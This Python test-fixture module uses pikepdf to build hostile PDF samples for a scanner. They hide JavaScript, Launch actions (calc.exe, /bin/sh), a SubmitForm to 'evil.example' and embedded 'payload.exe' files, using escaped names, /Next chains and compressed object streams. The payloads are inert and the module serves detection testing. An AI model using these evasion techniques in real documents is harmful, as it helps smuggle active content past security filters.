"""Hostile PDFs for issue 26 (classes 1 and 2), built in memory with pikepdf: scripts and actions
hung where a catalogue-down look misses them, names written with `#` escapes, and everything packed
into compressed object streams, where a scan of the raw bytes sees nothing."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String


def _new() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    return pdf


def _save(pdf: pikepdf.Pdf, *, object_streams: bool = True) -> bytes:
    """Object streams on: every dictionary is compressed, invisible to a raw-bytes scan."""
    buffer = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(buffer, object_stream_mode=mode, compress_streams=object_streams)
    return buffer.getvalue()


def _js(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _filespec(pdf: pikepdf.Pdf, name: str = "payload.exe") -> pikepdf.Object:
    embedded = Stream(pdf, b"MZ hidden program")
    embedded.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=embedded))
    )


# --- class 1: active content ----------------------------------------------------------------------


def next_chain_javascript() -> bytes:
    """An innocent URI open action whose `/Next` chain ends in JavaScript."""
    pdf = _new()
    second = pdf.make_indirect(
        Dictionary(S=Name.URI, URI=String("https://x.example/"), Next=_js(pdf))
    )
    pdf.Root.OpenAction = Dictionary(
        S=Name.URI, URI=String("https://x.example/"), Next=Array([second])
    )
    return _save(pdf)


def escaped_names_javascript() -> bytes:
    """`/J#61vaScript` and `/J#53` in a bookmark's action, uncompressed: every reader decodes the
    names; a byte scan does not."""
    pdf = _new()
    action = Dictionary({"/S": Name("/JQQQvaScript"), "/JZZZ": String("app.alert(1)")})
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("x"), Parent=outlines, A=action))
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines
    data = _save(pdf, object_streams=False)
    assert data.count(b"/JQQQvaScript") == 1 and data.count(b"/JZZZ") == 1
    # Same lengths, so the cross-reference offsets stay right.
    return data.replace(b"/JQQQvaScript", b"/J#61vaScript").replace(b"/JZZZ", b"/J#53")


def outline_javascript() -> bytes:
    """A bookmark whose action is JavaScript."""
    pdf = _new()
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Open me"), Parent=outlines, A=_js(pdf)))
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines
    return _save(pdf)


def acroform_field_javascript() -> bytes:
    """A form field (not a page annotation) with a keystroke script in its `/AA`."""
    pdf = _new()
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("amount"), AA=Dictionary(K=_js(pdf))))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return _save(pdf)


def compressed_xfa() -> bytes:
    """An XFA form (its script inside a Flate-compressed stream)."""
    pdf = _new()
    xfa = Stream(
        pdf,
        zlib.compress(
            b"<xdp:xdp><script contentType='application/x-javascript'>app.alert(1)"
            b"</script></xdp:xdp>"
        ),
    )
    xfa.Filter = Name.FlateDecode
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
    return _save(pdf)


def _open_action(kind: str, **fields: pikepdf.Object) -> Callable[[], bytes]:
    def build() -> bytes:
        pdf = _new()
        pdf.Root.OpenAction = Dictionary(
            {"/S": Name(kind), **{f"/{k}": v for k, v in fields.items()}}
        )
        return _save(pdf)

    build.__name__ = f"open_action_{kind[1:].lower()}"
    return build


launch = _open_action("/Launch", F=String("C:\\Windows\\System32\\calc.exe"))
submit_form = _open_action("/SubmitForm", F=String("https://evil.example/collect"))
import_data = _open_action("/ImportData", F=String("data.fdf"))
rich_media_execute = _open_action("/RichMediaExecute", TI=Dictionary())


def page_link_launch_in_object_stream() -> bytes:
    """A link annotation on a page whose action launches a program, packed in an object stream."""
    pdf = _new()
    link = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([0, 0, 50, 50]),
            A=Dictionary(S=Name.Launch, F=String("/bin/sh")),
        )
    )
    pdf.pages[0].Annots = Array([link])
    return _save(pdf)


ACTIVE: dict[str, tuple[Callable[[], bytes], str]] = {
    "next-chain": (next_chain_javascript, "JavaScript"),
    "escaped-names": (escaped_names_javascript, "JavaScript"),
    "outline-action": (outline_javascript, "JavaScript"),
    "acroform-field-aa": (acroform_field_javascript, "JavaScript"),
    "compressed-xfa": (compressed_xfa, "XFA"),
    "launch": (launch, "Launch"),
    "submit-form": (submit_form, "SubmitForm"),
    "import-data": (import_data, "ImportData"),
    "rich-media-execute": (rich_media_execute, "RichMediaExecute"),
    "page-link-launch-object-stream": (page_link_launch_in_object_stream, "Launch"),
}


# --- class 2: embedded files ----------------------------------------------------------------------


def associated_files_on_catalogue() -> bytes:
    """PDF 2.0 associated files: `/AF` on the catalogue."""
    pdf = _new()
    pdf.Root.AF = Array([_filespec(pdf)])
    return _save(pdf)


def associated_files_on_page() -> bytes:
    pdf = _new()
    pdf.pages[0].AF = Array([_filespec(pdf)])
    return _save(pdf)


def rich_media_assets() -> bytes:
    """A RichMedia annotation whose assets carry an embedded file (`/EF`)."""
    pdf = _new()
    assets = Dictionary(Names=Array([String("movie.swf"), _filespec(pdf, "movie.swf")]))
    annotation = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=Array([0, 0, 50, 50]),
            RichMediaContent=Dictionary(Assets=assets),
        )
    )
    pdf.pages[0].Annots = Array([annotation])
    return _save(pdf)


def go_to_embedded_target() -> bytes:
    """A `/GoToE` action into an embedded PDF (the file hangs off the action's target)."""
    pdf = _new()
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoToE, NewWindow=True, D=Array([0, Name.Fit]), F=_filespec(pdf, "inner.pdf")
    )
    return _save(pdf)


def filespec_behind_a_next_chain() -> bytes:
    """An embedded file no name tree lists, hung off a bookmark's harmless action's `/Next`."""
    pdf = _new()
    holder = pdf.make_indirect(
        Dictionary(
            S=Name.URI,
            URI=String("https://x.example/"),
            Next=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), X=_filespec(pdf)),
        )
    )
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("x"), Parent=outlines, A=holder))
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines
    return _save(pdf)


EMBEDDED: dict[str, tuple[Callable[[], bytes], str]] = {
    "af-on-catalogue": (associated_files_on_catalogue, "embedded files"),
    "af-on-page": (associated_files_on_page, "embedded files"),
    "rich-media-assets": (rich_media_assets, "embedded files"),
    "goto-e-target": (go_to_embedded_target, "GoToE"),
    "filespec-behind-next": (filespec_behind_a_next_chain, "embedded files"),
}


def harmless_rich_pdf() -> bytes:
    """What ordinary PDFs have: a bookmark to a page, a URI link, a form field without actions,
    all in object streams. It must pass (no false alarm)."""
    pdf = _new()
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(
        Dictionary(
            Title=String("Page 1"), Parent=outlines, Dest=Array([pdf.pages[0].obj, Name.Fit])
        )
    )
    outlines.First = item
    outlines.Last = item
    pdf.Root.Outlines = outlines
    link = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([0, 0, 50, 50]),
            A=Dictionary(S=Name.URI, URI=String("https://shop.example/receipt")),
        )
    )
    pdf.pages[0].Annots = Array([link])
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("note"), V=String("thanks")))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return _save(pdf)
